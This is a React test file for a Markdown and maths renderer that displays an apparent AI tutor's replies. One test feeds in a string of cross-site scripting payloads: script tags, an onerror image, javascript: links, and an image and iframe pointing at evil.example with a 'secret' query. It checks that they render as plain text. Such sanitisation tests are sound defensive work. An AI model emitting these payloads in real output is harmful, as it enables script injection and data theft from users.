import { cleanup, render } from '@testing-library/react';
import { afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { blocksOf, inlinesOf, Markdown } from '../../ui/Markdown.tsx';
import { loadMaths } from './drawing/drawing.ts';
import { MathText } from './MathText.tsx';

// KaTeX refuses to render in quirks mode, which happy-dom reports.
vi.hoisted(() => Object.defineProperty(document, 'compatMode', { value: 'CSS1Compat' }));
beforeAll(loadMaths);
afterEach(cleanup);

describe('a reply of the tutor', () => {
  it('has paragraphs, lists and bold words with formulas in them', () => {
    const { container } = render(
      <Markdown
        Words={MathText}
        text={'**Option A, $x^2$.** You\nadded.\n\n- **A** one\n- **B** $\\frac{1}{2}$'}
      />,
    );
    expect(container.querySelectorAll('p')).toHaveLength(1);
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('strong math')).not.toBeNull();
  });

  it('keeps stars in formulas and single stars', () => {
    expect(inlinesOf('$a*b*c$ and 2 * 3')).toEqual([{ kind: 'text', text: '$a*b*c$ and 2 * 3' }]);
    expect(inlinesOf('say *next* now').map(({ kind }) => kind)).toEqual(['text', 'em', 'text']);
  });

  it('S047 is rendered as text only, whatever a model wrote', () => {
    const hostile =
      '<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ![x](http://evil.example/?q=secret) $\\href{javascript:alert(1)}{x}$ <iframe src="//evil.example"></iframe>';
    const { container } = render(<Markdown Words={MathText} text={hostile} />);
    expect(container.querySelector('script, img, a, iframe, [href], [src]')).toBeNull();
    expect(container.textContent).toContain('<script>alert(1)</script>');
    expect(blocksOf('')).toEqual([]);
  });
});
